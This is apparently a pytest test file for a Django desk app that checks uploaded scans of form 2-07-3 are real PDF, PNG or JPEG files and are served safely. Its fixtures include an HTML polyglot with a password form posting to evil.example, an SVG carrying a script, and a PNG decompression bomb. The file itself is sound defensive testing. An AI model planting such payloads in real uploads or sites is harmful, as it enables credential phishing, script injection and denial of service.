"""The scan attached to form 2-07-3 (issue 12, finding 4): accepted for what its bytes are, kept
under a canonical name, served as the type checked at upload; never HTML on the desk.

Accepted: a PDF that pyHanko's reader opens (with at least one page, no password), a PNG and a
JPEG whose structure is whole (sealpost.orders.scans). Refused with a message on the scan field,
the rest of the form kept: anything else, whatever its name, such as an HTML page that starts
with ``%PDF-``. Served: with the canonical type, ``Content-Disposition`` and ``nosniff``; a scan
stored before the checks by the type its first bytes show (never ``text/html``), as an
attachment; a scan missing from storage is a message, not a server error.
"""

from __future__ import annotations

import io
import random
import struct
import time
import zlib

import pytest
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image  # in the environment through WeasyPrint (dev): a real encoder to check against

from sealpost.desk.tests.helpers import EN, place
from sealpost.orders import scans
from sealpost.orders.models import Order
from sealpost.portal.tests.helpers import order_post

HTML = b"%PDF-1.7\n<html><body><form action='https://evil.example/login' method=post>" \
       b"<input name=password type=password></form><meta http-equiv=refresh content='0;url=https://evil.example'></body></html>"
REFUSED_EN = "Scanned form 2-07-3: The scanned form cannot be opened as a PDF, PNG or JPEG file"
REFUSED_ZH = "申請表 2-07-3 掃描檔: 申請表掃描檔無法以 PDF、PNG 或 JPEG 格式開啟"


# --- files ----------------------------------------------------------------------------------


def pdf(objects: dict[int, bytes] | None = None, trailer: bytes = b"/Root 1 0 R") -> bytes:
    """A small PDF written by hand (one A4 page by default), with a correct xref table."""
    objects = objects or {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    }
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = out.tell()
        out.write(b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n")
    where, size = out.tell(), max(objects) + 1
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % size)
    out.write(b"".join(b"%010d 00000 n \n" % offsets.get(n, 0) for n in range(1, size)))
    out.write(b"trailer\n<< /Size %d " % size + trailer + b" >>\nstartxref\n%d\n%%%%EOF\n" % where)
    return out.getvalue()


def locked_pdf(user_password: str) -> bytes:
    from pyhanko.pdf_utils.reader import PdfFileReader
    from pyhanko.pdf_utils.writer import copy_into_new_writer

    writer = copy_into_new_writer(PdfFileReader(io.BytesIO(pdf())))
    writer.encrypt("owner-secret", user_password)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def picture(size=(48, 32)) -> Image.Image:
    return Image.effect_noise(size, 60).convert("RGB")


def encoded(image: Image.Image, fmt: str, **options) -> bytes:
    out = io.BytesIO()
    image.save(out, fmt, **options)
    return out.getvalue()


def png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


ADAM7 = ((0, 0, 8, 8), (4, 0, 8, 8), (0, 4, 4, 8), (2, 0, 4, 4), (0, 2, 2, 4), (1, 0, 2, 2), (0, 1, 1, 2))


def grey_png(pixels: list[int], width: int, height: int, *, interlaced: bool) -> bytes:
    """An 8-bit greyscale PNG written by hand (Pillow writes no interlaced PNG)."""
    raw = bytearray()
    passes = ADAM7 if interlaced else ((0, 0, 1, 1),)
    for x0, y0, dx, dy in passes:
        for y in range(y0, height, dy):
            row = bytes(pixels[y * width + x] for x in range(x0, width, dx))
            if row:
                raw += b"\0" + row
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, int(interlaced))
    return scans.PNG_SIGNATURE + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", zlib.compress(bytes(raw))) + png_chunk(b"IEND", b"")


def refused(data: bytes) -> bool:
    try:
        scans.identify(data)
    except scans.NotAScan:
        return True
    return False


# --- the form -------------------------------------------------------------------------------


def key_in(client, student, scan, **headers):
    data = order_post(student_number=student.student_number, language="en", scanned_form=scan)
    return client.post("/desk/orders/new/", data, **headers)


@pytest.mark.parametrize("name", ["scan.html", "scan.pdf", "scan"])
def test_html_starting_like_a_pdf_is_refused_on_the_scan_field_and_the_form_is_kept(clerk_client, student, name):
    response = key_in(clerk_client, student, SimpleUploadedFile(name, HTML, content_type="application/pdf"), **EN)
    page = response.content.decode()
    assert response.status_code == 200 and not Order.objects.exists()
    assert REFUSED_EN in page
    # At the field (the last time it is said: the summary of the errors at the top says it first).
    assert 'id="field-scanned_form"' in page and page.rindex(REFUSED_EN) > page.index('id="field-scanned_form"')
    assert f'value="{student.student_number}"' in page and "CHEN, TA-WEI" in page and "陳大偉" in page  # what was typed


def test_the_refusal_is_in_chinese_by_default(clerk_client, student):
    page = key_in(clerk_client, student, SimpleUploadedFile("scan.pdf", HTML)).content.decode()
    assert REFUSED_ZH in page and not Order.objects.exists()


def test_a_pdf_behind_a_password_is_refused_with_its_own_message(clerk_client, student):
    page = key_in(clerk_client, student, SimpleUploadedFile("scan.pdf", locked_pdf("secret")), **EN).content.decode()
    assert "The scanned form is a PDF protected by a password." in page and not Order.objects.exists()


def test_a_pdf_with_no_page_is_refused(clerk_client, student):
    empty = pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [] /Count 0 >>"})
    page = key_in(clerk_client, student, SimpleUploadedFile("scan.pdf", empty), **EN).content.decode()
    assert REFUSED_EN in page and not Order.objects.exists()


ACCEPTED = {
    # name as uploaded, content, canonical type
    "pdf named .html": ("scan.html", pdf(), scans.PDF),
    "pdf, no password to open": ("表 2-07-3.PDF", locked_pdf(""), scans.PDF),
    "png named .pdf": ("scan.pdf", encoded(picture(), "PNG"), scans.PNG),
    "jpeg named .jpeg": ("陳大偉 photo.JPEG", encoded(picture(), "JPEG", quality=80), scans.JPEG),
    "progressive jpeg, no extension": ("scan", encoded(picture(), "JPEG", progressive=True), scans.JPEG),
}


@pytest.mark.parametrize("case", list(ACCEPTED))
def test_a_real_scan_is_kept_and_served_as_its_canonical_type(clerk_client, student, case):
    name, content, kind = ACCEPTED[case]
    response = key_in(clerk_client, student, SimpleUploadedFile(name, content, content_type="text/html"))
    order = Order.objects.get()
    assert response.status_code == 302 and response.url == f"/desk/orders/{order.number}/"
    assert order.scanned_form.name.endswith(f"/{order.number}{kind.extension}")  # canonical, no personal data

    served = clerk_client.get(f"/desk/orders/{order.number}/scan")
    assert served.status_code == 200
    assert served["Content-Type"] == kind.content_type
    assert served["Content-Disposition"] == f'inline; filename="form-2-07-3-{order.number}{kind.extension}"'
    assert served["X-Content-Type-Options"] == "nosniff"
    assert b"".join(served.streaming_content) == content


def test_a_pdf_from_typst_is_accepted_and_served_as_pdf_whatever_its_name(clerk_client, student):
    from sealpost.orders import form2073

    other = place(student)
    scan = SimpleUploadedFile("form 2-07-3.htm", form2073.render(other), content_type="text/html")
    assert key_in(clerk_client, student, scan).status_code == 302
    order = Order.objects.exclude(pk=other.pk).get()
    assert order.scanned_form.name.endswith(f"/{order.number}.pdf")
    assert clerk_client.get(f"/desk/orders/{order.number}/scan")["Content-Type"] == "application/pdf"


DAMAGED = {
    "png cut short": lambda: encoded(picture(), "PNG")[:-20],
    "png with a page after its end": lambda: encoded(picture(), "PNG") + b"<html><form action='https://evil.example'>",
    "jpeg without its end": lambda: encoded(picture(), "JPEG")[:-2],
    "pdf cut in its xref table": lambda: pdf()[: pdf().index(b"xref") + 20],
}


@pytest.mark.parametrize("case", list(DAMAGED))
def test_a_damaged_file_with_the_right_first_bytes_is_refused(clerk_client, student, case):
    page = key_in(clerk_client, student, SimpleUploadedFile("scan.png", DAMAGED[case]()), **EN).content.decode()
    assert REFUSED_EN in page and not Order.objects.exists()


# --- files stored before the checks ---------------------------------------------------------


def stored(order: Order, name: str, content: bytes) -> Order:
    order.scanned_form.save(name, ContentFile(content), save=True)
    return order


@pytest.mark.parametrize("name, content, content_type", [
    ("scan.html", HTML, "application/pdf"),  # the finding: accepted before, served as text/html
    ("scan.html", b"<html><form action='https://evil.example'></form></html>", "application/octet-stream"),
    ("scan.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", "application/octet-stream"),
    ("scan.jpeg", encoded(picture(), "JPEG"), "image/jpeg"),
    ("scan.pdf", b"MZ\x90\0 not a pdf", "application/octet-stream"),
])
def test_a_legacy_scan_is_never_served_as_html(clerk_client, student, name, content, content_type):
    order = stored(place(student), name, content)
    served = clerk_client.get(f"/desk/orders/{order.number}/scan")
    assert served.status_code == 200
    assert served["Content-Type"] == content_type
    assert served["Content-Disposition"].startswith("attachment; filename=")
    assert "html" not in served["Content-Disposition"] and "svg" not in served["Content-Disposition"]
    assert served["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in served.get("Content-Security-Policy", "") or content_type == "application/pdf"


def test_a_scan_missing_from_storage_is_a_message_not_a_server_error(clerk_client, student):
    order = stored(place(student), "scan.pdf", pdf())
    order.scanned_form.storage.delete(order.scanned_form.name)
    response = clerk_client.get(f"/desk/orders/{order.number}/scan", follow=True, **EN)
    assert response.redirect_chain == [(f"/desk/orders/{order.number}/", 302)]
    assert f"The scanned form of order {order.number} is missing from storage." in response.content.decode()


# --- the structural checks ------------------------------------------------------------------


def test_every_truncation_of_a_png_or_jpeg_is_refused():
    for data in (encoded(picture(), "PNG"), encoded(picture(), "JPEG"), encoded(picture(), "JPEG", progressive=True)):
        assert not refused(data)
        assert all(refused(data[:n]) for n in range(len(data))), "a cut file was accepted"


def test_interlaced_png_layout_is_checked(db):
    rnd = random.Random(12)
    for width, height in [(1, 1), (2, 3), (5, 9), (8, 8), (13, 7), (33, 17)]:
        pixels = [rnd.randrange(256) for _ in range(width * height)]
        for interlaced in (False, True):
            data = grey_png(pixels, width, height, interlaced=interlaced)
            assert list(Image.open(io.BytesIO(data)).convert("L").tobytes()) == pixels  # the encoder is right
            assert not refused(data)
        # the same image data under the other layout's header is a byte count or row structure off
        wrong = bytearray(grey_png(pixels, width, height, interlaced=False))
        if width * height > 4:
            header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 1)
            assert refused(bytes(wrong[:8]) + png_chunk(b"IHDR", header) + bytes(wrong[33:]))


@pytest.mark.parametrize("mangle", [
    lambda d: d[:30] + bytes([d[30] ^ 1]) + d[31:],  # a CRC no longer matches
    lambda d: d + b"<html></html>",  # bytes after IEND
    lambda d: d[:8] + png_chunk(b"tEXt", b"a\0b") + d[8:],  # IHDR not first
    lambda d: d[:33] + png_chunk(b"HTML", b"<html>") + d[33:],  # an unknown critical chunk
], ids=["crc", "after IEND", "IHDR not first", "unknown critical chunk"])
def test_damaged_png_is_refused(mangle):
    assert refused(mangle(encoded(picture(), "PNG")))


def test_damaged_jpeg_is_refused_and_bytes_after_its_end_are_allowed():
    data = encoded(picture(), "JPEG")
    assert refused(data[:-2])  # no EOI
    assert refused(data[:2] + b"\xff\xd9")  # no frame, no scan
    assert refused(b"\xff\xd8\xff\xe0\xff\xff" + data[2:])  # a segment longer than the file
    assert not refused(data + encoded(picture((8, 8)), "JPEG"))  # a second picture after EOI (MPF)


def test_a_png_decompression_bomb_is_refused_quickly():
    header = struct.pack(">IIBBBBB", 16, 16, 8, 0, 0, 0, 0)
    bomb = zlib.compress(b"\0" * 200_000_000, 9)
    data = scans.PNG_SIGNATURE + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", bomb) + png_chunk(b"IEND", b"")
    started = time.monotonic()
    assert refused(data)
    assert time.monotonic() - started < 1.0
    huge = struct.pack(">IIBBBBB", 30_000, 30_000, 16, 6, 0, 0, 0)  # 7.2 GB of image data announced
    assert refused(scans.PNG_SIGNATURE + png_chunk(b"IHDR", huge) + png_chunk(b"IEND", b""))


@pytest.mark.parametrize("data", [
    b"%PDF-1.4 scanned form",
    pdf()[: pdf().index(b"xref") + 20],
    pdf(trailer=b"/Root 9 0 R"),
    pdf({1: b"<< /Type /Catalog >>"}),
], ids=["no structure", "truncated xref", "no catalog", "no page tree"])
def test_damaged_pdf_is_refused(db, data):
    assert refused(data)


def test_served_type_trusts_a_canonical_name_only_when_the_bytes_agree():
    png = encoded(picture(), "PNG")[:16]
    assert scans.served_type("forms/2026/12/SP1.png", png) == (scans.PNG, True)
    assert scans.served_type("forms/2026/12/SP1.pdf", png) == (scans.PNG, False)
    assert scans.served_type("forms/2026/12/SP1.html", png) == (scans.PNG, False)
    assert scans.served_type("forms/2026/12/SP1.pdf", b"<html>") == (scans.UNKNOWN, False)
